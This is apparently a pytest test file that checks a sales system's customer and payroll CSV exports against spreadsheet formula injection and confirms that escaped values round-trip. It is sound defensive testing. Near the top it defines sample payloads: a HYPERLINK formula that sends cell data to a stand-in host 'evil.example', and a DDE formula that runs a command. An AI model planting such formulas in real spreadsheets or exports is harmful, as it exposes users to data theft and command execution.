"""A cell of an export must never start a spreadsheet formula.

A hostile rep registers customers whose name, company or address is a formula; the
manager's export and finance's payroll export are opened in a spreadsheet. Every cell
starting with ``= + - @ TAB CR`` is written with a leading single quote (the convention
of ``salesguard.csvsafe``, README "Exports"), and a reader that knows the convention gets
every value back exactly, E.164 phones included.
"""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Sequence
from datetime import UTC, datetime

import pytest

from salesguard.csvsafe import (
    FORMULA_TRIGGERS,
    SafeCsvWriter,
    escape_cell,
    read_rows,
    unescape_cell,
)
from salesguard_commissions.models import Line
from tests.harness import Suite, unique
from tests.org import make_org, register
from tests.support.exports import customer_export, download, payroll_export

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, DDE, "+SUM(1+1)", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]


def written(rows: Sequence[Sequence[object]]) -> str:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    return buffer.getvalue()


def raw_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet parses them: RFC 4180, nothing unescaped."""
    return list(csv.reader(io.StringIO(text, newline="")))


def dangerous(cell: str) -> bool:
    return cell[:1] in tuple(FORMULA_TRIGGERS)


# -- the function ------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", list(FORMULA_TRIGGERS))
def test_every_trigger_character_is_neutralised(trigger: str) -> None:
    value = f"{trigger}SUM(1+1)"
    assert escape_cell(value) == f"'{value}"
    assert unescape_cell(escape_cell(value)) == value
    assert escape_cell(trigger) == f"'{trigger}"  # the trigger alone, too


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_of_the_issue_are_written_as_text(value: str) -> None:
    text = written([["code", "name"], ["C-000001", value]])
    (_, (code, cell)) = raw_cells(text)
    assert not dangerous(cell) and cell == f"'{value}"
    assert code == "C-000001"
    assert list(read_rows(io.StringIO(text, newline=""))) == [["code", "name"], ["C-000001", value]]


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Acme Trading",
        "李雷",
        " =1+1",  # not the first character
        "a=b",
        "'",
        "'abc",  # honest data with a leading quote before something harmless
        "O'Brien",
        "13912345678",
        "2026-01-01T00:00:00+08:00",
    ],
)
def test_harmless_cells_are_written_as_they_are(value: str) -> None:
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''+86", "'''@x", "'-", "'\t"])
def test_honest_leading_quotes_before_a_trigger_round_trip(value: str) -> None:
    # A value that itself starts with quotes before a trigger gets one more quote, so a
    # reader that strips one gets the value back, and the cell never starts a formula.
    assert escape_cell(value) == f"'{value}"
    assert unescape_cell(escape_cell(value)) == value


def test_e164_phones_and_signed_numbers_round_trip() -> None:
    text = written([["+8613912345678", -12.5, "-0.51", 3, None]])
    assert raw_cells(text) == [["'+8613912345678", "'-12.5", "'-0.51", "3", ""]]
    assert list(read_rows(io.StringIO(text, newline=""))) == [
        ["+8613912345678", "-12.5", "-0.51", "3", ""]
    ]


def test_newlines_and_quotes_inside_a_cell_stay_inside_it() -> None:
    values = [
        "line one\n=1+1",  # a formula on the cell's second line is not the cell's start
        "=1+1\n=2+2",
        '"=1+1"',  # already quoted: the quote comes first, the CSV quoting doubles it
        '=A1&"x,y"',
        "\r\n@SUM(1)",
    ]
    text = written([values])
    (cells,) = raw_cells(text)
    assert len(cells) == len(values)
    assert not any(dangerous(cell) for cell in cells)
    assert cells[0] == values[0] and cells[2] == values[2]
    assert list(read_rows(io.StringIO(text, newline=""))) == [values]


def test_round_trip_of_every_short_string_over_the_interesting_alphabet() -> None:
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a", '"', ",", " "]
    values = [""]
    for _ in range(3):
        values = [v + c for v in values for c in alphabet] + values
    for value in values:
        cell = escape_cell(value)
        assert not dangerous(cell), repr(value)
        assert unescape_cell(cell) == value, repr(value)
    text = written([values])
    assert list(read_rows(io.StringIO(text, newline=""))) == [values]


# -- the customer export -----------------------------------------------------------------------


async def test_customer_export_neutralises_formulas_and_keeps_phones(suite: Suite) -> None:
    org = await make_org(suite)
    hostile = [
        await register(
            suite, org.junior, name=f"{HYPERLINK} {unique('n')}", company=DDE, address="+SUM(1+1)"
        ),
        await register(suite, org.junior, name=f"@SUM(1+1) {unique('n')}", address="-2+3"),
        await register(suite, org.senior, name=f"'=honest {unique('n')}", company="O'Brien & Co"),
    ]
    export = await customer_export(
        suite, org.manager, org.manager_2, [customer["id"] for customer in hostile]
    )
    response = await download(suite, export.url, as_=org.manager)
    assert response.status_code == 200, response.text
    assert hashlib.sha256(response.content).hexdigest() == export.sha256
    text = response.content.decode()

    cells = raw_cells(text)
    assert len(cells) == 1 + len(hostile)
    assert [cell for row in cells for cell in row if dangerous(cell)] == []

    header, *rows = list(read_rows(io.StringIO(text, newline="")))
    by_code = {row[header.index("code")]: dict(zip(header, row, strict=True)) for row in rows}
    for customer in hostile:
        row = by_code[customer["code"]]
        # A reader that knows the convention gets every value back, E.164 phones included.
        assert row["name"] == customer["name"]
        assert row["phone"] == customer["phone"] and row["phone"].startswith("+")
        assert row["address"] == customer["address"]
    assert by_code[hostile[0]["code"]]["company"] == DDE


# -- the payroll export ------------------------------------------------------------------------


async def test_payroll_export_neutralises_every_cell(suite: Suite) -> None:
    org = await make_org(suite)
    period = "2024-02"
    await payroll_export(suite, org.finance, period, org.branch)  # the period has run (empty)
    # What the lines table holds is written whatever it is (a clawback's amount is
    # negative; a row written behind the service's back may hold anything).
    async with suite.running["commissions"].runtime.db.transaction() as session:
        session.add(
            Line(
                id=unique("line")[:32],
                period=period,
                branch_id=org.branch,
                employee_id=org.junior,
                team_id="@SUM(1+1)",
                order_id=unique("order")[:32],
                order_code="-2+3",
                customer_id="+SUM(1+1)",
                kind="CLAWBACK",
                status="PAYABLE",
                base_minor=-1250,
                rate_bp=500,
                amount_minor=-63,
                currency="CNY",
                reason=HYPERLINK,
                alert_ids=[],
                source_claim="WEBSITE",
                registered_source="WEBSITE",
                plan_version=1,
                fully_paid_at=datetime(2024, 2, 10, tzinfo=UTC),
            )
        )
    export = await payroll_export(suite, org.finance, period, org.branch, run=False)
    assert export.row_count == 1
    response = await download(suite, export.url, as_=org.finance)
    assert response.status_code == 200, response.text
    assert hashlib.sha256(response.content).hexdigest() == export.sha256
    text = response.content.decode()
    assert [cell for row in raw_cells(text) for cell in row if dangerous(cell)] == []
    header, row = list(read_rows(io.StringIO(text, newline="")))
    line = dict(zip(header, row, strict=True))
    assert (line["team_id"], line["order_code"], line["customer_id"]) == (
        "@SUM(1+1)",
        "-2+3",
        "+SUM(1+1)",
    )
    assert (line["reason"], line["base"], line["amount"]) == (HYPERLINK, "-12.50", "-0.63")
